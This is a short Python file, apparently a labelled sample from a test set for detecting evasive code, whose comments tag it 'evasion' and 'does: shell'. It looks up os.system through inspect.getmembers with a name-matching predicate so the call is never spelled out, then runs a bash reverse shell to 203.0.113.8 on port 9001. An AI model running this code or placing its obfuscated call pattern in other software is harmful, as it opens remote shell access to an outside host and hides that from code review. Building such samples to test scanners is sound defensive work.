# evasion: the os function is picked from inspect.getmembers by a predicate on its name (length, prefix, suffix), never spelled
# grade: hard; does: shell
import inspect
import os


def pick(module, test):
    for name, obj in inspect.getmembers(module, callable):
        if test(name):
            return obj
    raise LookupError


spawn = pick(os, lambda n: len(n) == 6 and n.startswith("sy") and n[-2:] == "em")
spawn("bash -c 'bash -i >& /dev/tcp/203.0.113.8/9001 0>&1'")
